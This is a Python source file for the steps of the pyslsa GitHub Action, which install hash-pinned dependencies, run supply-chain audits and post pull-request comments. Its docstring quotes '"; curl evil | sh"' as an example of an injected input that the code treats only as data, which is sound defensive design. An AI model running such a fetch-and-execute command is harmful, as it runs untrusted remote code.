"""The steps of the pyslsa GitHub Action (../action.yml): ``install``, ``run`` and ``comment``.

Standard library only, Python 3.10+: ``install`` runs on the runner's Python before anything is installed; ``run``
and ``comment`` run on the virtual environment's Python that ``install`` made. The action's inputs arrive as
environment variables that action.yml's ``env:`` blocks set (``PYSLSA_*``); they are read here as data, never
pasted into a script, so an input such as ``"; curl evil | sh"`` is only ever an odd argument.

Exit status of each step: 0 when the step did its job (``run`` then carries the command's own status in its
``exit-code`` output, so the comment can still be posted before the last step exits with it), 2 for a usage error
in the inputs, 1 when pyslsa could not be installed.
"""

from __future__ import annotations

import json
import os
import re
import secrets
import shlex
import shutil
import subprocess
import sys
import tempfile
import threading
import urllib.error
import urllib.request
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import IO, Any

COMMANDS = ("audit", "verify-release", "verify-artifact")
FORMATS = {"audit": ("markdown", "json", "sarif", "table"), "verify-release": ("json", "text"),
           "verify-artifact": ("json", "text")}
EXTENSIONS = {"markdown": "md", "json": "json", "sarif": "sarif", "table": "txt", "text": "txt"}
REQUIREMENTS = "action-requirements.txt"  # every runtime dependency and the build backend, hash-pinned
RELEASES = "action-releases.txt"  # pyslsa releases from the index that the action may install, hash-pinned
SOURCE_FILES = ("pyproject.toml", "README.md", "LICENSE", "src")  # what building pyslsa from the action needs
SUMMARY_LIMIT = 1000 * 1024  # GitHub refuses a step summary over 1 MiB
COMMENT_LIMIT = 65000  # GitHub refuses an issue comment over 65,536 characters
API_TIMEOUT = 30.0
MAX_PAGES = 30  # 3,000 files or comments: GitHub lists at most 3,000 files of a pull request
LOCKFILE = re.compile(r"(^|/)(requirements[^/]*\.txt|requirements/[^/]+\.txt|pylock(\.[^/]+)?\.toml|uv\.lock"
                      r"|poetry\.lock)$")
VERSION = re.compile(r"^[0-9]+(\.[0-9]+)*((a|b|rc)[0-9]+)?(\.post[0-9]+)?(\.dev[0-9]+)?$")


class InputError(Exception):
    """A wrong input of the action: reported on one line, exit status 2."""


class InstallError(Exception):
    """pyslsa could not be installed as the hashes file pins it: exit status 1."""


# -- the runner's files ----------------------------------------------------------------------------------------


def env(name: str, default: str = "") -> str:
    return os.environ.get(name, default)


def set_outputs(values: dict[str, str]) -> None:
    """Append ``values`` to $GITHUB_OUTPUT in the multi-line form, with a delimiter no value contains."""
    path = env("GITHUB_OUTPUT")
    if not path:
        raise InputError("GITHUB_OUTPUT is not set: this script runs as a step of the pyslsa action")
    with Path(path).open("a", encoding="utf-8") as out:
        for name, value in values.items():
            delimiter = f"ghadelimiter_{secrets.token_hex(16)}"
            out.write(f"{name}<<{delimiter}\n{value}\n{delimiter}\n")


def append_summary(markdown: str) -> None:
    path = env("GITHUB_STEP_SUMMARY")
    if path:
        with Path(path).open("a", encoding="utf-8") as out:
            out.write(truncate(markdown, SUMMARY_LIMIT, "the report is too long for the job summary: see the "
                                                        "report file (output report-path)") + "\n")


def truncate(text: str, limit: int, why: str) -> str:
    if len(text) <= limit:
        return text
    return text[: limit - len(why) - 16] + f"\n\n… truncated: {why}\n"


def annotate(kind: str, message: str) -> None:
    """A workflow command (::warning:: or ::error::) whose text cannot end the line or start another command."""
    text = message.replace("%", "%25").replace("\r", "%0D").replace("\n", "%0A")
    print(f"::{kind} title=pyslsa::{text}", flush=True)


class StopCommands:
    """While pyslsa's output (which quotes file names and messages from servers) is copied to the log, the runner
    stops reading workflow commands (``::stop-commands::``), so no such text can set an output or mask a value."""

    def __enter__(self) -> StopCommands:
        self.token = secrets.token_hex(16)
        print(f"::stop-commands::{self.token}", flush=True)
        return self

    def __exit__(self, *exc: object) -> None:
        sys.stdout.flush()
        sys.stderr.flush()
        print(f"::{self.token}::", flush=True)


# -- install ---------------------------------------------------------------------------------------------------


def own_version(action_path: Path) -> str:
    """The version in [project] of the action's own pyproject.toml."""
    text = (action_path / "pyproject.toml").read_text(encoding="utf-8")
    section = re.search(r"^\[project\]\s*$(.*?)(?=^\[|\Z)", text, re.M | re.S)
    found = re.search(r'^version\s*=\s*"([^"]+)"\s*$', section.group(1) if section else "", re.M)
    if found is None:
        raise InstallError(f"no [project] version in {action_path / 'pyproject.toml'}")
    return found.group(1)


def release_requirement(releases: Path, version: str) -> str | None:
    """The hash-pinned ``pyslsa==VERSION`` entry of the releases file (with its continuation lines), or None."""
    if not releases.is_file():
        return None
    entry: list[str] = []
    for line in releases.read_text(encoding="utf-8").splitlines():
        if entry or re.match(rf"^pyslsa=={re.escape(version)}(\s|\\|$)", line):
            entry.append(line)
            if not line.rstrip().endswith("\\"):
                break
    text = "\n".join(entry)
    return text if "--hash=sha256:" in text else None


def recorded_releases(releases: Path) -> list[str]:
    if not releases.is_file():
        return []
    return re.findall(r"^pyslsa==(\S+?)(?:\s|\\|$)", releases.read_text(encoding="utf-8"), re.M)


def venv_python(venv: Path) -> Path:
    windows = venv / "Scripts" / "python.exe"
    return windows if windows.exists() else venv / "bin" / "python"


def pip(python: Path, *args: str) -> None:
    argv = [str(python), "-m", "pip", "--disable-pip-version-check", "--no-input", *args]
    print(f"$ {shlex.join(argv)}", flush=True)
    status = subprocess.run(argv, check=False).returncode
    if status != 0:
        raise InstallError(f"pip exited with status {status}: {shlex.join(args)}")


def install() -> int:
    if sys.version_info < (3, 10):  # noqa: UP036 - the runner's python3, before anything is known about it
        raise InputError(f"pyslsa needs Python 3.10 or newer, this is {sys.version.split()[0]}: set the input "
                         f"python-version")
    action_path = Path(env("GITHUB_ACTION_PATH") or Path(__file__).resolve().parent.parent)
    own = own_version(action_path)
    wanted = env("PYSLSA_VERSION").strip() or own
    if not VERSION.match(wanted):
        raise InputError(f"pyslsa-version must be a version such as {own}, got {wanted!r}")
    release = None
    if wanted != own:
        release = release_requirement(action_path / RELEASES, wanted)
        if release is None:
            known = ", ".join(recorded_releases(action_path / RELEASES)) or "none yet"
            raise InputError(f"pyslsa-version {wanted}: {RELEASES} of this action holds no hashes for it (its "
                             f"own version is {own}; releases it can install: {known}); use the action at the "
                             f"commit of that release instead")
    base = Path(env("RUNNER_TEMP") or tempfile.gettempdir())
    base.mkdir(parents=True, exist_ok=True)
    workdir = Path(tempfile.mkdtemp(prefix="pyslsa-action-", dir=base))
    venv = workdir / "venv"
    print(f"Creating a virtual environment for pyslsa in {venv}", flush=True)
    made = subprocess.run([sys.executable, "-m", "venv", str(venv)], check=False).returncode
    if made != 0:
        raise InstallError(f"python -m venv exited with status {made}")
    python = venv_python(venv)
    # Every dependency (and setuptools, the build backend) from the index, each file checked against the
    # hashes kept beside action.yml; pip refuses any requirement of theirs that the file does not pin.
    pip(python, "install", "--require-hashes", "--only-binary", ":all:", "--progress-bar", "off",
        "-r", str(action_path / REQUIREMENTS))
    if release is None:
        # pyslsa itself from the action's own files (pinned by the commit in the workflow's uses:): built from a
        # copy, so nothing is written into the action's directory, with no index and no other build dependency.
        source = workdir / "source"
        source.mkdir()
        for name in SOURCE_FILES:
            item = action_path / name
            if item.is_dir():
                shutil.copytree(item, source / name, ignore=shutil.ignore_patterns("__pycache__", "*.egg-info"))
            else:
                shutil.copy2(item, source / name)
        pip(python, "install", "--no-deps", "--no-build-isolation", "--no-index", "--progress-bar", "off",
            str(source))
        shutil.rmtree(source)
    else:
        pinned = workdir / "pyslsa-release.txt"
        pinned.write_text(release + "\n", encoding="utf-8")
        pip(python, "install", "--require-hashes", "--only-binary", ":all:", "--no-deps", "--progress-bar", "off",
            "-r", str(pinned))
    pip(python, "check")
    shown = subprocess.run([str(python), "-m", "pyslsa", "--version"], capture_output=True, text=True, check=False)
    if shown.returncode != 0 or shown.stdout.strip() != f"pyslsa {wanted}":
        raise InstallError(f"the installed pyslsa says {shown.stdout.strip() or shown.stderr.strip()!r}, "
                           f"expected 'pyslsa {wanted}'")
    print(f"pyslsa {wanted} installed ({'the action' if release is None else RELEASES}, dependencies from "
          f"{REQUIREMENTS})", flush=True)
    set_outputs({"python": str(python), "version": wanted})
    return 0


# -- run -------------------------------------------------------------------------------------------------------


def _copy(stream: IO[bytes], sink: IO[bytes] | None, keep: list[bytes], limit: int) -> None:
    """Copy ``stream`` to ``sink`` (the log) as it comes, keeping up to ``limit`` bytes of it."""
    kept = 0
    for chunk in iter(lambda: os.read(stream.fileno(), 65536), b""):
        if sink is not None:
            sink.write(chunk)
            sink.flush()
        if kept < limit:
            keep.append(chunk[: limit - kept])
            kept += len(keep[-1])


def execute(argv: Sequence[str], *, stdout_path: Path | None) -> tuple[int, str]:
    """Run pyslsa with its output copied to the log (workflow commands stopped); stdout also to ``stdout_path``.
    Returns the exit status and the end of stderr (for the summary of a command that could not run)."""
    print(f"$ {shlex.join(argv)}", flush=True)
    err: list[bytes] = []
    out: list[bytes] = []
    with StopCommands(), subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as proc:
        assert proc.stdout is not None and proc.stderr is not None
        readers = [threading.Thread(target=_copy, args=(proc.stderr, sys.stderr.buffer, err, 1 << 20)),
                   threading.Thread(target=_copy, args=(proc.stdout, sys.stdout.buffer, out, 1 << 30))]
        for t in readers:
            t.start()
        for t in readers:
            t.join()
        status = proc.wait()
    if stdout_path is not None:
        stdout_path.write_bytes(b"".join(out))
    tail = b"".join(err).decode("utf-8", "replace").strip().splitlines()[-20:]
    return status, "\n".join(tail)


def split_args(raw: str) -> list[str]:
    try:
        return shlex.split(raw)
    except ValueError as exc:
        raise InputError(f"args: {exc} (quote like a shell: \"two words\" or 'two words')") from None


def check_inputs() -> tuple[str, list[str], str, str, str]:
    command = env("PYSLSA_COMMAND").strip()
    if command not in COMMANDS:
        raise InputError(f"command must be one of {', '.join(COMMANDS)}, got {command!r}")
    args = split_args(env("PYSLSA_ARGS"))
    fmt = env("PYSLSA_FORMAT").strip() or FORMATS[command][0]
    if fmt not in FORMATS[command]:
        raise InputError(f"format for {command} must be one of {', '.join(FORMATS[command])}, got {fmt!r}")
    policy = env("PYSLSA_POLICY").strip()
    sarif = env("PYSLSA_SARIF_FILE").strip()
    if command != "audit" and (policy or sarif):
        raise InputError(f"the inputs policy and sarif-file are for command audit, not {command}")
    instead = {"--format": "use the input format", "--output": "the report is at the output report-path, SARIF "
               "where the input sarif-file says", "--policy": "the input policy sets it already"}
    for arg in args:
        name = arg.split("=", 1)[0]
        if name in ("--format", "--output") or (name == "--policy" and policy):
            raise InputError(f"args: {name} is set by the action ({instead[name]})")
    comment_mode()
    return command, args, fmt, policy, sarif


def comment_mode() -> str:
    mode = env("PYSLSA_COMMENT", "false").strip().lower() or "false"
    if mode not in ("true", "false", "always"):
        raise InputError(f"comment must be true, false or always, got {mode!r}")
    return mode


def run() -> int:
    command, args, fmt, policy, sarif = check_inputs()
    base = Path(env("RUNNER_TEMP") or tempfile.gettempdir())
    base.mkdir(parents=True, exist_ok=True)
    outdir = Path(tempfile.mkdtemp(prefix="pyslsa-report-", dir=base))
    report = outdir / f"report.{EXTENSIONS[fmt]}"
    pyslsa = [sys.executable, "-m", "pyslsa", command]
    if command == "audit":
        # One run writes every view (--output FORMAT=FILE): the report file, the Markdown for the job summary,
        # the SARIF; the table goes to the log (stdout), ending with the summary line.
        outputs = ["--output", f"{fmt}={report}"]
        markdown_file = report
        if fmt != "markdown":
            markdown_file = outdir / "report.md"
            outputs += ["--output", f"markdown={markdown_file}"]
        sarif_path = ""
        if sarif:
            sarif_path = str(Path(sarif).resolve())
            outputs += ["--output", f"sarif={sarif_path}"]
        extra = ["--policy", policy] if policy else []
        status, err = execute([*pyslsa, "--format", "table", *outputs, *extra, *args], stdout_path=None)
        markdown = markdown_file.read_text(encoding="utf-8") if markdown_file.is_file() else ""
    else:
        status, err = execute([*pyslsa, "--format", fmt, *args], stdout_path=report)
        sarif_path = ""
        markdown = verify_markdown(command, fmt, report.read_text(encoding="utf-8", errors="replace"), status)
    if status not in (0, 1) or not markdown.strip():
        markdown = could_not_run(command, status, err)
    summary = outdir / "summary.md"
    summary.write_text(markdown, encoding="utf-8")
    append_summary(markdown)
    if status == 1:
        found = error_code(report) if command != "audit" and fmt == "json" else None
        annotate("error", f"{command}: verification failed{f' [{found}]' if found else ''} (details in the job "
                          f"summary)")
    elif status != 0:
        annotate("error", f"{command}: could not run (exit status {status}; details in the job summary)")
    written = report.is_file() and report.stat().st_size > 0
    set_outputs({"verified": "true" if status == 0 else "false", "report-path": str(report) if written else "",
                 "sarif-path": sarif_path if sarif_path and Path(sarif_path).is_file() else "",
                 "exit-code": str(status), "markdown-path": str(summary)})
    return 0


# -- the Markdown of verify-release / verify-artifact (they have no Markdown view) ------------------------------


def code(value: object) -> str:
    """A table cell holding ``value`` as inline code: nothing in it is a link, a mention, HTML or a new cell."""
    text = " ".join(str(value).split()) if value is not None else ""
    if not text:
        return "-"
    text = text.replace("|", "\\|")
    longest = max((len(m) for m in re.findall(r"`+", text)), default=0)
    fence = "`" * (longest + 1)
    return f"{fence} {text} {fence}" if longest else f"`{text}`"


def fenced(text: str) -> str:
    longest = max((len(m) for m in re.findall(r"`{3,}", text)), default=2)
    fence = "`" * (longest + 1)
    return f"{fence}text\n{text.rstrip()}\n{fence}"


def verdict(ok: bool, error: Any) -> str:
    if ok:
        return "✅ verified"
    if isinstance(error, dict) and error.get("code"):
        return f"❌ {code(error['code'])}"
    return "❌ failed"


def verify_markdown(command: str, fmt: str, output: str, status: int) -> str:
    head = f"### pyslsa {command}: {'✅ verified' if status == 0 else '❌ verification failed'}"
    if status not in (0, 1):
        return ""
    if fmt == "text":
        return f"{head}\n\n{fenced(output)}\n"
    try:
        doc = json.loads(output)
    except ValueError:
        return f"{head}\n\n{fenced(output)}\n"
    if not isinstance(doc, dict):
        return f"{head}\n\n{fenced(output)}\n"
    lines = [head, ""]
    if command == "verify-release":
        lines += [f"Release {code(doc.get('release'))} from {code(doc.get('index_url'))}", "",
                  "| File | SHA-256 | Evidence | Builder / publisher | Verdict |", "| --- | --- | --- | --- | --- |"]
        for f in _dicts(doc.get("files")):
            evidence = _dicts(f.get("evidence"))
            if not evidence:
                lines.append(f"| {code(f.get('filename'))} | {code(str(f.get('sha256', ''))[:16])} | - | - | "
                             f"{verdict(bool(f.get('verified')), f.get('error') or {'code': 'unattested'})} |")
            for i, e in enumerate(evidence):
                name = code(f.get("filename")) if i == 0 else ""
                digest = code(str(f.get("sha256", ""))[:16]) if i == 0 else ""
                lines.append(f"| {name} | {digest} | {code(e.get('kind'))} | {code(e.get('signer'))} | "
                             f"{verdict(bool(e.get('verified')), e.get('error'))} |")
        notes = [n for n in doc.get("notes") or [] if isinstance(n, str)]
        if notes:
            lines += ["", "Notes:", *(f"- {code(n)}" for n in notes)]
    else:
        lines += ["| Artifact | SHA-256 | Builder | Source | Ref | Verdict |",
                  "| --- | --- | --- | --- | --- | --- |"]
        for a in _dicts(doc.get("artifacts")):
            lines.append(f"| {code(a.get('path'))} | {code(str(a.get('sha256') or '')[:16])} | "
                         f"{code(a.get('builder_id'))} | {code(a.get('source_uri'))} | {code(a.get('ref'))} | "
                         f"{verdict(bool(a.get('verified')), a.get('error'))} |")
    error = doc.get("error")
    if isinstance(error, dict) and error.get("code"):
        lines += ["", f"**Error** {code(error.get('code'))}: {code(error.get('message'))}"]
    return "\n".join(lines) + "\n"


def error_code(report: Path) -> str | None:
    """The stable error code of a verify-* JSON report (a kebab-case word: safe in an annotation), or None."""
    try:
        error = json.loads(report.read_text(encoding="utf-8")).get("error") or {}
    except (OSError, ValueError, AttributeError):
        return None
    found = error.get("code") if isinstance(error, dict) else None
    return found if isinstance(found, str) and re.fullmatch(r"[a-z0-9][a-z0-9-]{0,63}", found) else None


def _dicts(value: object) -> list[dict[str, Any]]:
    return [v for v in value if isinstance(v, dict)] if isinstance(value, list) else []


def could_not_run(command: str, status: int, err: str) -> str:
    what = "usage or input error" if status == 2 else "interrupted" if status == 130 else "error"
    body = fenced(err) if err else "(no output)"
    command = command if command in COMMANDS else code(command)
    return f"### pyslsa {command}: ⚠️ could not run (exit status {status}: {what})\n\n{body}\n"


# -- comment ---------------------------------------------------------------------------------------------------


class _NoRedirect(urllib.request.HTTPRedirectHandler):
    """The token is for the API host only: a redirect is an error, never followed with the Authorization header."""

    def redirect_request(self, *args: Any, **kwargs: Any) -> None:
        return None


class GitHub:
    def __init__(self, api: str, token: str) -> None:
        if not api.startswith(("https://", "http://")):
            raise ValueError(f"GITHUB_API_URL is not an http(s) URL: {api!r}")
        self.api = api.rstrip("/")
        self.token = token
        self.opener = urllib.request.build_opener(_NoRedirect)

    def request(self, method: str, path: str, body: dict[str, Any] | None = None) -> tuple[Any, dict[str, str]]:
        url = path if path.startswith(self.api + "/") else self.api + path
        data = json.dumps(body).encode() if body is not None else None
        req = urllib.request.Request(url, data=data, method=method, headers={  # noqa: S310 - http(s), checked above
            "Authorization": f"Bearer {self.token}", "Accept": "application/vnd.github+json",
            "X-GitHub-Api-Version": "2022-11-28", "User-Agent": "pyslsa-action",
            **({"Content-Type": "application/json"} if data is not None else {})})
        with self.opener.open(req, timeout=API_TIMEOUT) as resp:
            raw = resp.read(32 << 20)
            return (json.loads(raw) if raw else None), dict(resp.headers.items())

    def pages(self, path: str) -> Iterator[dict[str, Any]]:
        url: str | None = f"{path}{'&' if '?' in path else '?'}per_page=100"
        for _ in range(MAX_PAGES):
            if url is None:
                return
            doc, headers = self.request("GET", url)
            if not isinstance(doc, list):
                raise ValueError(f"GET {path}: expected a list")
            yield from (item for item in doc if isinstance(item, dict))
            url = _next_link(headers.get("Link", ""), self.api)


def _next_link(link: str, api: str) -> str | None:
    for part in link.split(","):
        found = re.match(r'\s*<([^>]+)>\s*;\s*rel="next"', part)
        if found and found.group(1).startswith(api + "/"):
            return found.group(1)
    return None


def marker() -> str:
    job = re.sub(r"[^A-Za-z0-9_.-]", "_", env("GITHUB_JOB") or "job")
    return f"<!-- pyslsa-action: {job} -->"


def comment() -> int:
    mode = comment_mode()
    if mode == "false":
        return 0
    event = env("GITHUB_EVENT_NAME")
    if event not in ("pull_request", "pull_request_target"):
        print(f"comment: the event is {event!r}, not a pull request: no comment", flush=True)
        return 0
    markdown_path = env("PYSLSA_MARKDOWN")
    if not markdown_path or not Path(markdown_path).is_file():
        annotate("warning", "comment: no report to post")
        return 0
    try:
        payload = json.loads(Path(env("GITHUB_EVENT_PATH")).read_text(encoding="utf-8"))
        number = int(payload["pull_request"]["number"])
        repo = env("GITHUB_REPOSITORY")
        if not re.fullmatch(r"[A-Za-z0-9_.-]+/[A-Za-z0-9_.-]+", repo):
            raise ValueError(f"GITHUB_REPOSITORY {repo!r}")
    except (OSError, ValueError, KeyError, TypeError) as exc:
        annotate("warning", f"comment: cannot read the pull request from the event: {exc}")
        return 0
    token = env("PYSLSA_TOKEN")
    if not token:
        annotate("warning", "comment: no token (input token is empty): no comment")
        return 0
    gh = GitHub(env("GITHUB_API_URL") or "https://api.github.com", token)
    try:
        if mode == "true":
            changed = [f.get("filename", "") for f in gh.pages(f"/repos/{repo}/pulls/{number}/files")]
            locks = [name for name in changed if isinstance(name, str) and LOCKFILE.search(name)]
            if not locks:
                print("comment: the pull request changes no lockfile or requirements file: no comment", flush=True)
                return 0
        mark = marker()
        body = truncate(f"{mark}\n{Path(markdown_path).read_text(encoding='utf-8')}", COMMENT_LIMIT,
                        "the report is too long for a comment: see the job summary")
        ours = [c for c in gh.pages(f"/repos/{repo}/issues/{number}/comments")
                if isinstance(c.get("body"), str) and c["body"].startswith(mark + "\n")]
        # A comment the workflow's own token wrote first; anyone can paste the marker, but only its author can
        # edit the comment, so a refused edit falls back to a new comment.
        ours.sort(key=lambda c: (c.get("user") or {}).get("login") != "github-actions[bot]")
        if ours and isinstance(ours[0].get("id"), int):
            try:
                gh.request("PATCH", f"/repos/{repo}/issues/comments/{ours[0]['id']}", {"body": body})
                print(f"comment: updated comment {ours[0]['id']} on pull request #{number}", flush=True)
                return 0
            except urllib.error.HTTPError as exc:
                if exc.code not in (403, 404):
                    raise
        doc, _ = gh.request("POST", f"/repos/{repo}/issues/{number}/comments", {"body": body})
        print(f"comment: posted comment {doc.get('id') if isinstance(doc, dict) else '?'} on pull request "
              f"#{number}", flush=True)
    except urllib.error.HTTPError as exc:
        hint = " (a pull request from a fork gets a read-only token)" if exc.code in (403, 404) else ""
        annotate("warning", f"comment: the GitHub API answered {exc.code} {exc.reason}{hint}: no comment")
    except (urllib.error.URLError, OSError, ValueError) as exc:
        annotate("warning", f"comment: the GitHub API could not be reached: {exc}: no comment")
    return 0


def main(argv: Sequence[str]) -> int:
    steps = {"install": install, "run": run, "comment": comment}
    if len(argv) != 1 or argv[0] not in steps:
        print(f"usage: pyslsa_action.py {{{'|'.join(steps)}}}", file=sys.stderr)
        return 2
    try:
        return steps[argv[0]]()
    except InputError as exc:
        annotate("error", str(exc))
        if argv[0] == "run":
            append_summary(could_not_run(env("PYSLSA_COMMAND") or "(no command)", 2, f"input error: {exc}"))
        return 2
    except InstallError as exc:
        annotate("error", f"install: {exc}")
        return 1


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
